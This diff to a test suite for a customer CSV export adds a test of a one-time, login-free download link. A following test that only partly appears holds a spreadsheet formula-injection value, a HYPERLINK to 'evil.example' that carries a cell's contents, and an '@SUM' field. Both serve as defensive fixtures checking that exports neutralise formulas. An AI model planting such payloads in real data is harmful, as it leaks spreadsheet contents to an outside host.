@@ -44,6 +44,19 @@ describe('customers as a file', () => {
     expect(new Set(all.map((line) => line.split(',')[0])).size).toBe(all.length);
   });
 
+  it('come by a link for whoever may export: once, without a log-in, as far as the asker sees', async () => {
+    const { path } = await dana.ask('privacy:export-link', { text: 'Okafor' });
+    // A browser that looks first does not use it up.
+    expect((await fetch(bridge.httpAddress + path, { method: 'HEAD' })).status).toBe(404);
+    const reply = await fetch(bridge.httpAddress + path);
+    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="customers.csv"');
+    const direct = await text(await get(dana, '/api/exports/customers.csv?text=Okafor'));
+    expect(await text(reply)).toBe(direct);
+    expect((await fetch(bridge.httpAddress + path)).status).toBe(404);
+    expect((await fetch(`${bridge.httpAddress}/api/exports/files/${'A'.repeat(43)}`)).status).toBe(404);
+    expect(await lena.command('privacy:export-link', { text: '' })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+  });
+
   it('run nothing in a spreadsheet, whatever somebody is called', async () => {
     const evil = '=HYPERLINK("http://evil.example?x="&A1)';
     const fields = { name: evil, locale: 'en', title: '@SUM(1)', accountId: null } as const;
